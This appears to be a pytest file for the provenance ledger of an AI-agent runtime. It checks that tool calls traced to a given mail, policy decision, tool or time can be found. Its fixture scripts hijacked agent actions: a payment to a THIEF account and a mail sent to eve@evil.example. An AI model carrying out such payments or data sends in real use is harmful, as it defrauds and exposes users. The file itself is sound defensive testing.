"""Every call that a mail touched can be asked for, and so can who, what, when and how it was decided."""

from typing import Any

import pytest

from pratique.ledger.search import Wanted, first_at, search
from pratique.model import Status
from pratique.runtime import Runtime
from tests.house import Clock, House, answer, opened, records
from tests.outside import REQUEST, THIEF, Border, Letter, preset

REFUSED = """
[[deny]]
id = "no-web"
to = "*"
tools = ["web.*"]
"""


@pytest.fixture
def border() -> Border:
    made = Border()
    made.letters["71"] = Letter("ann@a.example", "Nothing much.")
    return made


@pytest.fixture
async def runtime(empty_house: House, border: Border, clock: Clock) -> Runtime:
    """A house in which some things happened, each an hour after the other."""
    empty_house.apply(preset("provenance") + REFUSED)
    runtime = empty_house.runtime(tools=border.tools())
    session = await opened(runtime, request=REQUEST)
    pending = None
    for tool, args in (
        ("post.read", {"mail": "71"}),
        ("post.read", {"mail": "7"}),
        ("bank.pay", {"account": "Bolt Ltd", "amount": 18.5}),
        ("bank.pay", {"account": THIEF, "amount": 18.5}),
        ("post.send", {"to": ["eve@evil.example"], "body": "Nothing much."}),
        ("web.get", {"url": "https://bolt.example"}),
        ("no.such", {}),
    ):
        clock.forward(3600)
        outcome = await session.call(tool, args, call_id=f"{tool}-{clock.now_us}")
        pending = outcome if outcome.status is Status.PENDING and pending is None else pending
    assert pending is not None
    answer(runtime, pending.ticket)
    await session.redeem(pending.ticket)
    return runtime


def found(runtime: Runtime, **wanted: Any) -> list[tuple[str, str]]:
    """Tool and type of what a search finds."""
    hits = runtime.ledger.read(lambda connection: search(connection, Wanted(**wanted)))
    return [(hit["tool"], hit["type"].partition(".")[2]) for hit in hits]


READ, PAID, SENT = ("post.read", "outcome"), ("bank.pay", "outcome"), ("post.send", "proposed")


async def test_a_source_finds_its_read_and_every_call_that_it_touched(runtime: Runtime) -> None:
    assert found(runtime, source="email:7") == [READ, SENT, PAID]
    assert found(runtime, source="email:7#body") == [READ, PAID]
    assert found(runtime, source="email:7#from") == [READ, SENT]


async def test_a_source_is_not_another_whose_name_begins_alike(runtime: Runtime) -> None:
    assert found(runtime, source="email:71") == [READ, SENT]
    assert found(runtime, source="email:") == []
    assert found(runtime, source="mail:7") == []


async def test_a_call_is_found_once_and_as_it_stands_now(runtime: Runtime) -> None:
    """A payment that was asked, permitted and made has three records, and is one call."""
    hits = runtime.ledger.read(lambda c: search(c, Wanted(source="email:7#body", tool="bank.pay")))
    assert [(hit["type"], hit["outcome"]) for hit in hits] == [("call.outcome", "done")]
    assert hits[0]["seq"] == records(runtime.ledger)[-1]["seq"]


@pytest.mark.parametrize(
    ("wanted", "tools"),
    [
        ({"decision": "ask"}, ["post.send", "bank.pay"]),
        ({"decision": "deny"}, ["web.get", "no.such"]),
        ({"decision": "allow"}, ["post.read", "post.read", "bank.pay"]),
        ({"tool": "bank.pay"}, ["bank.pay", "bank.pay"]),
        ({"tool": "bank.*"}, ["bank.pay", "bank.pay"]),
        ({"tool": "bank"}, []),
        ({"tool": "post.*", "decision": "ask"}, ["post.send"]),
        ({"agent": "support", "tool": "web.get"}, ["web.get"]),
        ({"agent": "suppor"}, []),
        ({"most": 1}, ["bank.pay"]),
    ],
)
async def test_what_else_a_search_goes_by(runtime: Runtime, wanted: Any, tools: list[str]) -> None:
    assert [tool for tool, _ in found(runtime, **wanted)] == tools


async def test_a_search_has_a_first_and_a_last_moment(runtime: Runtime, clock: Clock) -> None:
    reads = [record for record in records(runtime.ledger) if record.get("tool") == "post.read"]
    first, second = (record["ts_us"] for record in reads)
    assert found(runtime, until_us=second) == [READ]
    assert found(runtime, since_us=first, until_us=second + 1) == [READ, READ]
    assert found(runtime, since_us=clock.now_us + 1) == []
    assert found(runtime, tool="post.read", since_us=second) == [READ]


async def test_the_first_record_of_a_moment_is_found_by_halves(runtime: Runtime) -> None:
    everything = records(runtime.ledger)
    for moment in sorted({record["ts_us"] + step for record in everything for step in (-1, 0, 1)}):
        expected = next((r["seq"] for r in everything if r["ts_us"] >= moment), everything[-1]["seq"] + 1)
        assert runtime.ledger.read(lambda c, at=moment: first_at(c, at)) == expected  # type: ignore[misc]  # the default binds it
